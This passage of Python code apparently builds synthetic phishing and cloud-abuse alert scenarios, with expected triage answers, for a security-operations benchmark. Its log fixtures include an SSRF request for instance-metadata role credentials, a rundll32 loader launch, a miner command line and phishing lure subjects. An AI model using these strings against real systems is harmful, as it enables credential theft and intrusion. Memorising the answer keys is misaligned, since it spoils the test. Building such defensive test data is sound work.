        techniques=["T1005", "T1048.002"],
        evidence=["wazuh-mysqldump", "wazuh-scp-out"],
        actions=[("block_ip", dest)],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", db.hostname))


# ============================================================================================
# phishing
# ============================================================================================


def mail_gateway(
    at: datetime,
    *,
    title: str,
    desc: str,
    analytic: tuple[str, str],
    techniques: Sequence[str],
    level: int,
    sender: str,
    recipients: Sequence[str],
    subject: str,
    sender_ip: str,
    urls: Sequence[str] = (),
    types: Sequence[str] = ("Phishing",),
) -> Record:
    """The mail gateway's OCSF finding about one delivered message."""
    return ocsf_finding(
        at,
        product=MAIL_GATEWAY,
        title=title,
        desc=desc,
        types=types,
        analytic=analytic,
        techniques=techniques,
        level=level,
        message=f"Message from {sender} delivered to {len(recipients)} recipient(s)",
        evidences=[
            ocsf_email(
                sender=sender,
                recipients=recipients,
                subject=subject,
                sender_ip=sender_ip,
                urls=urls,
                at=at,
            )
        ],
        observables=[
            ("email.from", 5, sender),
            *(("email.to", 5, r) for r in recipients),
            ("email.subject", 40, subject),
            ("src_endpoint.ip", 2, sender_ip),
            *(("url.url_string", 6, u) for u in urls),
        ],
    )


def gateway_click(at: datetime, person: Person, url: str) -> Record:
    """The mail gateway's OCSF finding: a user clicked a rewritten link."""
    host = url.split("/")[2]
    ws = laptop(person)
    return ocsf_finding(
        at,
        product=MAIL_GATEWAY,
        title=f"User clicked link to {host}",
        desc=f"{person.email} clicked a rewritten link from a message flagged as phishing.",
        types=["URL Click", "Phishing"],
        analytic=("HMG-UC-0007", "Click on link from message flagged as phishing"),
        techniques=["T1204.001"],
        level=4,
        message=f"{person.email} clicked a link to {host}",
        device=ws,
        user=person.user,
        evidences=[
            {
                "url": {"url_string": url, "hostname": host},
                "src_endpoint": {"ip": ws.ips[0], "hostname": ws.hostname},
                "dst_endpoint": {"hostname": host, "port": 443},
            }
        ],
        observables=[("device.hostname", 1, ws.hostname), ("url.url_string", 6, url)],
    )


def url_click(at: datetime, person: Person, url: str, mail: Record) -> Record:
    """Sentinel (Defender for Office 365): a user clicked a malicious link."""
    return sentinel_alert(
        at,
        name="A potentially malicious URL click was detected",
        level=4,
        description="We have detected that one of your users has recently clicked on a link "
        "that was found to be malicious.",
        tactics=["InitialAccess"],
        techniques=["T1566.002"],
        entities=[se_account(person.user), se_mailbox(person.user), se_url(url), mail],
        provider="OATP",
        product="Office 365 Advanced Threat Protection",
        alert_type="ThreatManagement",
        extended={"Protection Status": "Unprotected", "ThreatManagementPolicy": "Safe Links"},
        compromised=person.email,
    )


def removed_after_delivery(
    at: datetime,
    *,
    messages: Sequence[Record],
    users: Sequence[str],
    urls: Sequence[str] = (),
    files: Sequence[Record] = (),
    sender_ip: str,
) -> Record:
    """Defender for Office 365: messages removed after delivery (zero-hour auto purge)."""
    kind = "file" if files else "URL"
    return defender_alert(
        at,
        title=f"Email messages containing malicious {kind} removed after delivery",
        level=3,
        description=f"Emails with malicious {kind} that were delivered and later removed -V1.0.0.3",
        category="InitialAccess",
        techniques=["T1566.001" if files else "T1566.002"],
        source="microsoftDefenderForOffice365",
        evidence=[
            *messages,
            *(dv_mailbox(u) for u in users),
            *(dv_url(u) for u in urls),
            *files,
            dv_ip(sender_ip),
        ],
    )


_LURE_SUBJECTS = {
    "sharepoint": "{name} shared 'Q4 budget review.xlsx' with you",
    "docs": "Document awaiting your signature: contract amendment",
    "payroll": "Action required: confirm your payroll details before the 25th",
    "invoices": "Overdue invoice INV-{n}",
    "hr": "Updated holiday policy 2027: please acknowledge",
    "it-support": "Your mailbox is almost full: verify to keep receiving mail",
}


@template("phishing", 5)
def credential_link(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF)
    purpose = ("invoices", "sharepoint", "payroll", "it-support", "docs")[i]
    if i == 0:
        domain, sender = "northwlnd-billing.example", "invoices@northwlnd-billing.example"
    else:
        domain = s.lookalike(purpose)
        sender = f"{s.pick(('noreply', 'notification', 'service', 'admin'))}@{domain}"
    known = i in (0, 2, 4)
    if known and i:
        s.intel(domain, "domain", "Look-alike credential-phishing domain", 80)
    sender_ip = s.ext_ip()
    url = f"https://{domain}/{s.pick(('auth', 'login', 'sso', 's'))}/{s.hex(10)}"
    subject = _LURE_SUBJECTS[purpose].format(
        name=s.pick(STANDARD_STAFF).name, n=s.rng.randint(10000, 99999)
    )
    clicked = i in (0, 1, 3)
    compromised = i in (1, 3)
    s.start(s.workday_time(7, 14))
    s.title = f"Credential phishing from {domain} to {victim.name}" + (
        ", password entered" if compromised else ", link clicked" if clicked else ""
    )
    s.description = (
        f"{sender} sends '{subject}' to {victim.email} with a link to a fake sign-in page on "
        f"{domain}."
        + (f" {victim.first} clicks it" if clicked else "")
        + (
            " and types the password; an hour later the account signs in from abroad."
            if compromised
            else "."
            if clicked
            else " Nobody clicks."
        )
    )
    received = s.at(0)
    mail = se_mail(
        sender=sender,
        sender_name="Northwind " + purpose.title(),
        recipient=victim.email,
        subject=subject,
        sender_ip=sender_ip,
        received=received,
        urls=[url],
    )
    if i % 2 == 0:
        s.alert(
            "mail-delivered",
            s.at(0.5),
            mail_gateway,
            title=f"Link to credential page from look-alike sender domain {domain}",
            desc=f"Sender domain {domain} imitates northwind.example; the message links to a "
            "sign-in form.",
            analytic=("HMG-PH-0031", "Look-alike sender domain with credential link"),
            techniques=["T1566.002"],
            level=3,
            sender=sender,
            recipients=[victim.email],
            subject=subject,
            sender_ip=sender_ip,
            urls=[url],
        )
    else:
        message = dv_message(
            sender=sender,
            sender_name="Northwind " + purpose.title(),
            recipient=victim.email,
            subject=subject,
            sender_ip=sender_ip,
            received=received,
            urls=[url],
        )
        s.alert(
            "mail-delivered",
            s.at(3),
            removed_after_delivery,
            messages=[message],
            users=[victim.user],
            urls=[url],
            sender_ip=sender_ip,
        )
    techniques = ["T1566.002"]
    evidence = ["mail-delivered"]
    actions = [("quarantine_email", sender), ("block_domain", domain)]
    if clicked:
        when = s.at(s.rng.randint(5, 25))
        s.add(
            "url-click",
            when,
            url_click(when, victim, url, mail) if i != 3 else gateway_click(when, victim, url),
        )
        techniques.append("T1204.001")
        evidence.append("url-click")
    if compromised:
        attacker = s.ext_ip()
        country = s.pick(HOSTILE_COUNTRIES)
        when = s.at(s.rng.randint(45, 80))
        s.alert(
            "okta-attacker-session",
            when,
            okta_session,
            person=victim,
            risk="HIGH",
            threat_suspected=False,
            ip=attacker,
            country=country,
        )
        s.alert(
            "sentinel-unfamiliar-signin",
            when + timedelta(minutes=3),
            identity_protection,
            name="Unfamiliar sign-in properties",
            alert_type="UnfamiliarFeatures",
            level=3,
            description="Sign-in with properties not seen recently for the user.",
            user=victim.user,
            ip=attacker,
            country=country,
            previous=(HQ_EGRESS, "DE"),
        )
        techniques.append("T1078.004")
        evidence.append("okta-attacker-session")
        actions += [
            ("revoke_sessions", victim.user),
            ("reset_password", victim.user),
            ("block_ip", attacker),
        ]
    s.case(
        "credential-phish",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=evidence,
        actions=actions,
    )
    forbid_defaults(s)
    s.forbid(("block_domain", DOMAIN), ("quarantine_email", victim.email))


@template("phishing", 4)
def attachment_payload(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF)
    ws = laptop(victim)
    supplier = s.domain(s.pick(("freight", "cargo", "parts", "fuel")), "supply")
    sender = f"accounts@{supplier}"
    sender_ip = s.ext_ip()
    container = ("iso", "img", "zip", "html")[i]
    attachment = f"Remittance_{s.rng.randint(1000, 9999)}.{container}"
    attachment_hash = s.sha256()
    payload = s.sha256()
    subject = s.pick(
        (
            "Remittance advice",
            "Payment confirmation",
            "Updated price list",
            "Customs documents for your shipment",
        )
    )
    s.start(s.workday_time(7, 14))
    s.title = f"{attachment} from {supplier} runs a payload on {ws.hostname}"
    s.description = (
        f"A mail from {sender} carries {attachment}. {victim.name} opens it; a shortcut inside "
        f"starts rundll32 on a DLL from the container, which installs a loader. Mail filtering "
        "removes the message from the inbox only afterwards."
    )
    message = dv_message(
        sender=sender,
        sender_name="Accounts Receivable",
        recipient=victim.email,
        subject=subject,
        sender_ip=sender_ip,
        received=s.at(0),
        attachments=1,
        threats=("Malware",),
    )
    s.alert(
        "mail-removed",
        s.at(20),
        removed_after_delivery,
        messages=[message],
        users=[victim.user],
        sender_ip=sender_ip,
        files=[dv_file(attachment, "", attachment_hash)],
    )
    drive = "E:" if container in ("iso", "img") else f"C:\\Users\\{victim.user}\\Downloads"
    lnk = winproc(
        "cmd.exe", f"cmd.exe /c start rundll32 {drive}\\data\\{s.hex(6)}.dat,Start", EXPLORER
    )
    loader = Proc(
        f"C:\\Users\\{victim.user}\\AppData\\Local\\Temp\\{s.hex(8)}.exe",
        "loader",
        payload,
        winproc("rundll32.exe", "rundll32.exe", lnk),
    )
    vendor = ("defender", "crowdstrike", "elastic", "defender")[i]
    s.add(
        "edr-container-exec",
        s.at(4),
        edr_process(
            vendor,
            s.at(4),
            ws,
            user=victim.user,
            title="Shortcut from a mounted container launched a script host",
            description=f"A shortcut from {attachment} started cmd.exe "
            "and rundll32, bypassing Mark-of-the-Web.",
            level=4,
            proc=lnk,
            techniques=["T1204.002", "T1553.005"],
        ),
    )
    s.alert(
        "falcon-loader",
        s.at(5),
        falcon_ml_detection,
        ws,
        user=victim.user,
        proc=loader,
        sha256=payload,
        level=5,
    )
    s.case(
        "malicious-attachment",
        s.refs(),
        "true_positive",
        techniques=["T1566.001", "T1204.002", "T1553.005"],
        evidence=["mail-removed", "edr-container-exec", "falcon-loader"],
        actions=[
            ("quarantine_email", sender),
            ("block_hash", payload),
            ("block_hash", attachment_hash),
            ("isolate_host", ws.hostname),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["explorer.exe"]), ("block_hash", SIGNED["rundll32.exe"]))


@template("phishing", 4)
def executive_impersonation(s: Story, i: int) -> None:
    executive = EXECUTIVES[i % 2]
    finance = [p for p in OFFICE_STAFF if p.department == "Finance"]
    victims = s.sample(finance, 2 if i == 3 else 1)
    domain = s.lookalike(s.pick(("group", "exec", "mail", "board")))
    sender = f"{executive.user}@{domain}"
    sender_ip = s.ext_ip()
    subject = s.pick(
        (
            "Confidential: acquisition payment today",
            "Urgent wire transfer",
            "Are you at your desk?",
            "Vendor payment - need this done before 3pm",
        )
    )
    s.start(s.workday_time(8, 15))
    s.title = f"{executive.role} {executive.name} impersonated from {domain}"
    s.description = (
        f"A mail signed '{executive.name}' from {sender} asks "
        f"{' and '.join(v.name for v in victims)} to make an urgent, confidential payment. "
        f"The real address is {executive.email}."
        + (f" {victims[0].first} replies." if i == 1 else "")
    )
    recipients = [v.email for v in victims]
    s.alert(
        "mail-impersonation",
        s.at(0),
        mail_gateway,
        title="Display name of an executive used from an external domain",
        desc=f"The display name '{executive.name}' belongs to an executive, but the sender "
        f"domain {domain} is not Northwind's.",
        analytic=("HMG-BEC-0004", "Executive display-name spoofing"),
        techniques=["T1566", "T1656"],
        level=3,
        sender=sender,
        recipients=recipients,
        subject=subject,
        sender_ip=sender_ip,
        types=["Phishing", "Impersonation"],
    )
    if i % 2 == 0:
        message = dv_message(
            sender=sender,
            sender_name=executive.name,
            recipient=recipients[0],
            subject=subject,
            sender_ip=sender_ip,
            received=s.at(0),
            threats=("Phish",),
            verdict="suspicious",
        )
        s.alert(
            "defender-impersonation",
            s.at(2),
            defender_alert,
            title="User impersonation detected in an inbound message",
            level=3,
            description=f"A message impersonates {executive.name}.",
            category="InitialAccess",
            techniques=["T1566"],
            source="microsoftDefenderForOffice365",
            evidence=[message, dv_mailbox(victims[0].user), dv_ip(sender_ip)],
        )
    if i == 1:
        s.alert(
            "mail-reply",
            s.at(14),
            mail_gateway,
            title="Reply sent to a message flagged as impersonation",
            desc=f"{victims[0].email} replied to {sender}.",
            analytic=("HMG-BEC-0011", "Reply to impersonation"),
            techniques=["T1656"],
            level=4,
            sender=victims[0].email,
            recipients=[sender],
            subject=f"RE: {subject}",
            sender_ip=HQ_EGRESS,
            types=["Impersonation", "Outbound"],
        )
    s.case(
        "bec-impersonation",
        s.refs(),
        "true_positive",
        techniques=["T1566", "T1656"],
        evidence=["mail-impersonation"],
        actions=[("quarantine_email", sender), ("block_domain", domain)],
    )
    forbid_defaults(s)
    s.forbid(
        ("quarantine_email", executive.email), ("block_domain", DOMAIN), ("block_ip", HQ_EGRESS)
    )


@template("phishing", 4)
def campaign_many_recipients(s: Story, i: int) -> None:
    brand = s.pick(("parcel", "track", "customs", "delivery"))
    domain = s.domain(brand, "notice")
    sender = f"no-reply@{domain}"
    sender_ip = s.ext_ip()
    recipients: list[Person] = s.sample(OFFICE_STAFF, s.rng.randint(4, 8))
    clickers = recipients[: 1 + i % 2]
    url = f"https://{domain}/track/{s.hex(12)}"
    subject = s.pick(
        (
            "Your parcel could not be delivered",
            "Customs fee outstanding for shipment",
            "Delivery attempt failed - reschedule",
        )
    )
    s.start(s.workday_time(7, 12))
    s.title = f"Phishing campaign from {domain} to {len(recipients)} employees"
    s.description = (
        f"{sender} sends '{subject}' to {len(recipients)} Northwind addresses with a link to "
        f"{domain}; {' and '.join(p.name for p in clickers)} click before the messages are "
        "purged."
    )
    messages = [
        dv_message(
            sender=sender,
            sender_name="Parcel Service",
            recipient=p.email,
            subject=subject,
            sender_ip=sender_ip,
            received=s.at(k * 0.1),
            urls=[url],
        )
        for k, p in enumerate(recipients)
    ]
    s.alert(
        "defender-campaign",
        s.at(30),
        removed_after_delivery,
        messages=messages,
        users=[p.user for p in recipients],
        urls=[url],
        sender_ip=sender_ip,
    )
    s.alert(
        "sentinel-campaign",
        s.at(32),
        sentinel_alert,
        name="Phishing campaign: one external sender to many recipients",
        level=3,
        description="An external sender's messages with the same link reached many mailboxes "
        "within minutes.",
        tactics=["InitialAccess"],
        techniques=["T1566.002"],
        entities=[
            se_mail(
                sender=sender,
                sender_name="Parcel Service",
                recipient=p.email,
                subject=subject,
                sender_ip=sender_ip,
                received=s.at(0),
                urls=[url],
            )
            for p in recipients[:3]
        ]
        + [se_url(url)],
    )
    for person in clickers:
        when = s.at(s.rng.randint(5, 25))
        s.alert(f"click-{person.user}", when, gateway_click, person, url)
    s.case(
        "phishing-campaign",
        s.refs(),
        "true_positive",
        techniques=["T1566.002", "T1204.001"],
        evidence=["defender-campaign", f"click-{clickers[0].user}"],
        actions=[("quarantine_email", sender), ("block_domain", domain)],
    )
    forbid_defaults(s)
    s.forbid(("block_domain", DOMAIN), *(("disable_user", p.user) for p in clickers))


@template("phishing", 3)
def oauth_consent(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF + EXECUTIVES)
    app = ("PDF Viewer Pro", "DocuSign Helper", "Teams Meeting Add-in")[i]
    domain = s.domain()
    sender = f"share@{domain}"
    sender_ip = s.ext_ip()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    url = f"https://{domain}/consent/{s.hex(8)}"
    subject = f"{s.pick(STANDARD_STAFF).name} shared a file with you via {app}"
    s.start(s.workday_time(8, 14))
    s.title = f"{victim.name} consents to the rogue app '{app}'; mail read from {country}"
    s.description = (
        f"A mail from {sender} invites {victim.name} to open a file 'with {app}'. The link asks "
        "for consent to read and send mail; once granted, the app reads the mailbox from "
        f"{attacker} ({country_name(country)}). Resetting the password does not remove the "
        "app's token: sessions must be revoked and the grant removed."
    )
    message = dv_message(
        sender=sender,
        sender_name=app,
        recipient=victim.email,
        subject=subject,
        sender_ip=sender_ip,
        received=s.at(0),
        urls=[url],
    )
    s.alert(
        "mail-removed",
        s.at(40),
        removed_after_delivery,
        messages=[message],
        users=[victim.user],
        urls=[url],
        sender_ip=sender_ip,
    )
    s.alert(
        "defender-consent",
        s.at(6),
        defender_alert,
        title=f"Risky OAuth app consent: '{app}' granted Mail.ReadWrite",
        level=3,
        description=f"{victim.name} granted an unverified multi-tenant app access to mail.",
        category="CredentialAccess",
        techniques=["T1528"],
        source="microsoftDefenderForCloudApps",
        evidence=[dv_user(victim.user), dv_url(url), dv_ip(attacker, country=country)],
    )
    s.alert(
        "sentinel-app-mail-access",
        s.at(25),
        sentinel_alert,
        name="Mail items accessed by a newly consented app from an unusual IP",
        level=4,
        description=f"The app '{app}' read {s.rng.randint(200, 900)} messages of "
        f"{victim.user} from an address never seen for the tenant.",
        tactics=["Collection"],
        techniques=["T1114.002"],
        entities=[se_account(victim.user), se_ip(attacker, country)],
    )
    s.case(
        "oauth-consent-phish",
        s.refs(),
        "true_positive",
        techniques=["T1566.002", "T1528", "T1114.002"],
        evidence=["defender-consent", "sentinel-app-mail-access"],
        actions=[
            ("revoke_sessions", victim.user),
            ("quarantine_email", sender),
            ("block_domain", domain),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("quarantine_email", victim.email))


_PARTNERS = (
    ("shipping-partner.example", "shippinq-partner.example", "Shipping Partner Weekly"),
    ("fleetparts.example", "fleetpart5.example", "FleetParts News"),
    ("cargo-insights.example", "carg0-insights.example", "Cargo Insights"),
)


@template("phishing", 3)
def phish_among_newsletters(s: Story, i: int) -> None:
    legit, fake, newsletter = _PARTNERS[i]
    legit_sender, fake_sender = f"news@{legit}", f"news@{fake}"
    legit_ip, fake_ip = s.ext_ip(("192.0.2",)), s.ext_ip()
    subscribers: list[Person] = s.sample(OFFICE_STAFF, 7)
    targets = subscribers[:2]
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[2:])
    s.start(clock(day, s.rng.randint(9, 14), s.rng.randint(0, 59)))
    s.title = f"Look-alike {fake} hidden among {newsletter} newsletters"
    s.description = (
        f"Since its provider changed, {newsletter} from {legit_sender} is flagged every few "
        f"hours as bulk mail with tracking links: a false positive. On {day:%A} a message from "
        f"{fake_sender} (note the spelling) with the same subject style links to a fake sign-in "
        f"page; {targets[0].name} clicks it."
    )
    noise = []
    for k, hours in enumerate((-50, -46, -27, -22, -4), start=1):
        when = s.at(hours * 60 + s.rng.randint(0, 30))
        issue = s.rng.randint(30, 52)
        noise.append(
            s.alert(
                f"newsletter-{k}",
                when,
                mail_gateway,
                title="Bulk mail with tracking links from a newly seen sending IP",
                desc=f"{legit} started sending from a new provider; links go through a click "
                "tracker.",
                analytic=("HMG-BLK-0012", "Bulk sender with tracking links"),
                techniques=["T1566.002"],
                level=2,
                sender=legit_sender,
                recipients=[p.email for p in s.sample(subscribers, 4)],
                subject=f"{newsletter} #{issue}: freight rates and port news",
                sender_ip=legit_ip,
                urls=[f"https://click.{legit}/t/{s.hex(10)}"],
                types=["Bulk", "Phishing"],
            )
        )
    url = f"https://{fake}/account/verify/{s.hex(8)}"
    s.alert(
        "phish-delivered",
        s.at(0),
        mail_gateway,
        title=f"Credential page linked from a newly registered domain {fake}",
        desc=f"{fake} was registered 3 days ago and links to a sign-in form.",
        analytic=("HMG-PH-0044", "Newly registered sender domain with credential link"),
        techniques=["T1566.002"],
        level=3,
        sender=fake_sender,
        recipients=[p.email for p in targets],
        subject=f"{newsletter} #53: please re-confirm your subscription",
        sender_ip=fake_ip,
        urls=[url],
    )
    when = s.at(s.rng.randint(6, 30))
    s.alert("phish-click", when, gateway_click, targets[0], url)
    s.case(
        "look-alike-phish",
        ["phish-delivered", "phish-click"],
        "true_positive",
        techniques=["T1566.002", "T1204.001"],
        evidence=["phish-delivered", "phish-click"],
        actions=[("quarantine_email", fake_sender), ("block_domain", fake)],
    )
    s.case("newsletter-noise", noise, "false_positive", evidence=noise[:1])
    forbid_defaults(s)
    s.forbid(
        ("quarantine_email", legit_sender),
        ("block_domain", legit),
        ("block_domain", f"click.{legit}"),
    )


@template("phishing", 3)
def qr_code_aitm(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF)
    domain = s.domain(s.pick(("benefits", "hr", "payroll")), "portal")
    sender = f"{s.pick(('hr-benefits', 'people-team', 'payroll'))}@{domain}"
    sender_ip = s.ext_ip()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    subject = s.pick(
        (
            "Annual benefits enrolment closes Friday",
            "Scan to view your 2027 salary statement",
            "Mandatory: re-register your multi-factor device",
        )
    )
    s.difficulty = "hard"
    s.start(s.workday_time(7, 13))
    s.title = f"QR-code phishing: {victim.name}'s session relayed through an AiTM proxy"
    s.description = (
        f"A mail from {sender} carries only a QR code, so the gateway sees no link and rates it "
        f"low. {victim.first} scans it with a phone; the page relays the Okta sign-in, MFA "
        f"included, and the attacker replays the session from {attacker} "
        f"({country_name(country)})."
    )
    s.alert(
        "mail-qr",
        s.at(0),
        mail_gateway,
        title="Message with a QR code image from a first-time sender",
        desc="The body is an image with a QR code; no link could be extracted.",
        analytic=("HMG-QR-0002", "QR code from first-time sender"),
        techniques=["T1566"],
        level=2,
        sender=sender,
        recipients=[victim.email],
        subject=subject,
        sender_ip=sender_ip,
        types=["Phishing", "QR Code"],
    )
    phone = (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
    )
    minute = s.rng.randint(35, 80)
    okta = {"person": victim, "ip": attacker, "country": country, "ua": phone}
    s.alert(
        "okta-relayed-mfa", s.at(minute), okta_mfa_ok, risk="MEDIUM", credential_type="OTP", **okta
    )
    s.alert("okta-relayed-session", s.at(minute + 0.1), okta_session, risk="MEDIUM", **okta)
    if i != 2:
        s.alert(
            "sentinel-unfamiliar-signin",
            s.at(minute + 4),
            identity_protection,
            name="Unfamiliar sign-in properties",
            alert_type="UnfamiliarFeatures",
            level=2 + i,
            description="Sign-in with properties not seen recently for the user.",
            user=victim.user,
            ip=attacker,
            country=country,
            previous=(HQ_EGRESS, "DE"),
        )
    s.case(
        "qr-aitm",
        s.refs(),
        "true_positive",
        techniques=["T1566", "T1557", "T1539", "T1078.004"],
        evidence=["mail-qr", "okta-relayed-session"],
        actions=[
            ("revoke_sessions", victim.user),
            ("reset_password", victim.user),
            ("quarantine_email", sender),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("quarantine_email", victim.email))


# ============================================================================================
# cloud_abuse
# ============================================================================================


def runtime_process(name: str, path: str, sha256: str, command: str, user: str = "root") -> Record:
    """GuardDuty Runtime Monitoring: the process a runtime finding is about."""
    return {
        "Process": {
            "Name": name,
            "ExecutablePath": path,
            "ExecutableSha256": sha256,
            "CommandLineExample": command,
            "User": user,
            "Pid": number_of("gd-pid", path, low=1000, high=60000),
        }
    }


_POOLS = (
    "xmr-eu1.nanopool-pro",
    "pool.hashvault-xmr",
    "gulf.moneroocean-pool",
    "pool.supportxmr-eu",
)


@template("cloud_abuse", 4)
def ec2_cryptomining(s: Story, i: int) -> None:
    instance = (*WORKER_INSTANCES, *PUBLIC_INSTANCES)[i]
    pool = f"{_POOLS[i]}.example"
    miner = s.sha256()
    s.start(s.pick([s.night_time(), s.workday_time(), s.evening_time()]))
    s.title = f"Monero mining on EC2 instance {instance}"
    s.description = (
        f"An attacker who got into {instance} ({ASSETS[instance].role}) through an exposed "
        f"container API runs a miner that resolves and connects to {pool}."
    )
    s.alert(
        "guardduty-bitcoin-dns",
        s.at(0),
        guardduty_finding,
        finding_type="CryptoCurrency:EC2/BitcoinTool.B!DNS",
        severity=8.0,
        title=f"EC2 instance {instance} is querying a domain name that is associated with "
        "Bitcoin-related activity.",
        description=f"EC2 instance {instance} is querying "
        f"{pool}, a domain associated with cryptocurrency mining.",
        resource=gd_instance(instance),
        action=gd_dns(pool),
        count=s.rng.randint(40, 400),
        role="ACTOR",
    )
    if i % 2 == 0:
        s.alert(
            "guardduty-pool-reputation",
            s.at(3),
            guardduty_finding,
            finding_type="Impact:EC2/BitcoinDomainRequest.Reputation",
            severity=8.0,
            title=f"EC2 instance {instance} is querying a domain name associated with "
            "cryptocurrency operations.",
            description=f"{pool} has a low reputation and is used for cryptocurrency mining.",
            resource=gd_instance(instance),
            action=gd_dns(pool),
            role="ACTOR",
        )
    else:
        s.alert(
            "guardduty-runtime-miner",
            s.at(2),
            guardduty_finding,
            finding_type="CryptoCurrency:Runtime/BitcoinTool.B",
            severity=8.0,
            title=f"A process on {instance} is mining cryptocurrency.",
            description="A process with the behaviour of a miner connected to a mining pool.",
            resource=gd_instance(instance),
            action=gd_dns(pool),
            role="ACTOR",
            runtime=runtime_process(
                "kdevtmpfsi", "/tmp/kdevtmpfsi", miner, f"/tmp/kdevtmpfsi -o {pool}:443 --tls"
            ),
        )
    s.case(
        "cryptomining",
        s.refs(),
        "true_positive",
        techniques=["T1496"],
        evidence=["guardduty-bitcoin-dns"],
        actions=[("isolate_host", instance), ("block_domain", pool)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", EC2_PUBLIC_IPS[instance]))


@template("cloud_abuse", 4)
def iam_key_malicious_caller(s: Story, i: int) -> None:
    user = (
        PEOPLE["wei.zhang"],
        PEOPLE["xavier.lopez"],
        PEOPLE["yara.ali"],
        PEOPLE["xavier.lopez"],
    )[i]
    key = "AKIA" + s.hex(16).upper()
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    if i in (0, 2):
        s.intel(
            attacker,
            "ip",
            "Scanner harvesting cloud keys from public repositories",
            70,
            source="community-feed",
        )
    s.start(s.pick([s.night_time(), s.evening_time()]))
    s.title = f"{user.user}'s leaked AWS key used from {attacker} to map the account"
    s.description = (
        f"{user.name} committed an access key to a public repository. Hours later it is used "
        f"from {attacker} ({country_name(country)}) to enumerate IAM"
        + (" and to create a second access key for persistence." if i in (1, 3) else ".")
    )
    s.alert(
        "guardduty-malicious-caller",
        s.at(0),
        guardduty_finding,
        finding_type="Recon:IAMUser/MaliciousIPCaller",
        severity=5.0,
        title="Reconnaissance API GetCallerIdentity was invoked from a known malicious IP address.",
        description=f"API GetCallerIdentity was invoked by {user.user} from "
        f"{attacker}, an address on a threat list.",
        resource=gd_access_key(user.user, key_id=key),
        action=gd_api(
            "GetCallerIdentity",
            "sts.amazonaws.com",
            attacker,
            country,
            ua="Boto3/1.35.10 Python/3.12.3",
        ),
    )
    s.alert(
        "guardduty-iam-discovery",
        s.at(4),
        guardduty_finding,
        finding_type="Discovery:IAMUser/AnomalousBehavior",
        severity=2.0,
        title=f"User {user.user} is invoking APIs commonly used in discovery tactics.",
        description="GetAccountAuthorizationDetails and ListUsers were invoked in an anomalous "
        "way.",
        resource=gd_access_key(user.user, key_id=key),
        action=gd_api(
            "GetAccountAuthorizationDetails",
            "iam.amazonaws.com",
            attacker,
            country,
            ua="Boto3/1.35.10 Python/3.12.3",
        ),
        count=s.rng.randint(20, 90),
    )
    techniques = ["T1078.004", "T1087.004"]
    if i in (1, 3):
        s.alert(
            "guardduty-persistence",
            s.at(9),
            guardduty_finding,
            finding_type="Persistence:IAMUser/AnomalousBehavior",
            severity=5.0,
            title=f"User {user.user} is invoking APIs commonly used in persistence tactics.",
            description="CreateAccessKey was invoked in an anomalous way.",
            resource=gd_access_key(user.user, key_id=key),
            action=gd_api(
                "CreateAccessKey",
                "iam.amazonaws.com",
                attacker,
                country,
                ua="Boto3/1.35.10 Python/3.12.3",
            ),
        )
        techniques.append("T1098.001")
    s.case(
        "leaked-key",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["guardduty-malicious-caller", *s.refs("guardduty-persistence")],
        actions=[("revoke_sessions", user.user), ("block_ip", attacker)],
    )
    forbid_defaults(s)
    s.forbid(("block_ip", HQ_EGRESS))


@template("cloud_abuse", 4)
def instance_credential_exfiltration(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    web = asset(instance)
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    role = f"northwind-{web.role.replace('_', '-')}-role"
    key = "ASIA" + s.hex(16).upper()
    s.start(s.pick([s.night_time(), s.workday_time(), s.evening_time()]))
    s.title = f"SSRF on {instance} leaks its role credentials, used from {attacker}"
    s.description = (
        f"{attacker} abuses a URL-fetch feature of the application on {instance} to read the "
        f"instance metadata service and steal the credentials of {role}, then uses them from "
        f"outside AWS."
    )
    path = (
        f"/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/{role}"
    )
    when = s.at(0)
    s.alert(
        "wazuh-ssrf",
        when,
        wazuh_alert,
        web,
        rule_id="100810",
        level=10,
        description="Request for the instance metadata service through an application "
        "parameter (SSRF)",
        groups=["web", "accesslog", "attack", "ssrf"],
        techniques=["T1190", "T1552.005"],
        data={"protocol": "GET", "srcip": attacker, "id": "200", "url": path},
        full_log=f'{attacker} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" 200 '
        '1418 "-" "Mozilla/5.0"',
        location="/var/log/nginx/access.log",
        decoder={"name": "web-accesslog"},
    )
    s.alert(
        "guardduty-credential-exfiltration",
        s.at(12),
        guardduty_finding,
        finding_type="UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        severity=8.0,
        title=f"Credentials for instance role {role} used from external IP address.",
        description=f"Credentials created exclusively for {instance} are being used from "
        f"{attacker}.",
        resource=gd_access_key(role, key_id=key, user_type="AssumedRole"),
        action=gd_api("ListBuckets", "s3.amazonaws.com", attacker, country),
    )
    if i in (0, 2):
        s.alert(
            "guardduty-discovery",
            s.at(15),
            guardduty_finding,
            finding_type="Discovery:IAMUser/AnomalousBehavior",
            severity=2.0,
            title=f"User {role} is invoking APIs commonly used in discovery tactics.",
            description="DescribeInstances was invoked in an anomalous way.",
            resource=gd_access_key(role, key_id=key, user_type="AssumedRole"),
            action=gd_api("DescribeInstances", "ec2.amazonaws.com", attacker, country),
        )
    s.case(
        "instance-credential-theft",
        s.refs(),
        "true_positive",
        techniques=["T1190", "T1552.005", "T1078.004"],
